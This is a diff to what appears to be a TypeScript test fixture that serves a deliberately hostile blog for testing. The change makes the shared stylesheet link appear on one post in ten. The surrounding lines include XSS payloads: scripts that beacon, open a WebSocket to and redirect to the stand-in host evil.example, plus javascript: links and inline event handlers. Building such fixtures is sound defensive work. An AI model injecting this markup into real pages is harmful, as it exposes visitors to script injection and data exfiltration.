@@ -10,6 +10,9 @@ const HEAD = `<meta http-equiv="refresh" content="0;url=https://evil.example/ref
 <script>alert(1); new WebSocket('wss://evil.example'); navigator.sendBeacon('https://evil.example/'); location = 'https://evil.example'</script>
 <script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>`
 
+/** One post of so many has the sheet with every hostile style: it is the same file for all, and asks for 30 others. */
+const POSTS_PER_SHEET = 10
+
 /** A blog on loopback whose every post has one of the strings in every place there is for it. */
 export async function serveHostileBlog(): Promise<TestServer> {
   const posts = XSS_STRINGS.map((text, n) => ({
@@ -56,10 +59,11 @@ interface HostilePost {
 function postPage({ text, date, n }: HostilePost): string {
   const file = HOSTILE_FILES[n % HOSTILE_FILES.length]?.name ?? ''
   const style = HOSTILE_STYLES[n % HOSTILE_STYLES.length] ?? ''
+  const sheet = n % POSTS_PER_SHEET === 0 ? '<link rel="stylesheet" href="/style.css">' : ''
   const shown = escaped(text)
   const name = encodeURIComponent(`${text}.svg`)
   return `<!doctype html><html lang="${n % 3 === 0 ? shown : 'en'}"><head><title>${shown}</title>${HEAD}<style>${style}</style>
-<link rel="stylesheet" href="/style.css"><link rel="alternate" type="application/rss+xml" href="/feed.xml"></head>
+${sheet}<link rel="alternate" type="application/rss+xml" href="/feed.xml"></head>
 <body onload="alert(1)" background="https://evil.example/background.gif"><article class="post"><h1 class="entry-title">${shown}</h1>
 <p class="byline"><a class="author" rel="author" href="javascript:alert(1)">${shown}</a> <time datetime="${date}">${date.slice(0, 10)}</time></p>
 <div class="entry-content" style="${escaped(style)}" onclick="alert(1)"><p>The words of post number ${n}, of which there are enough to be taken for an article by whoever reads it.</p>
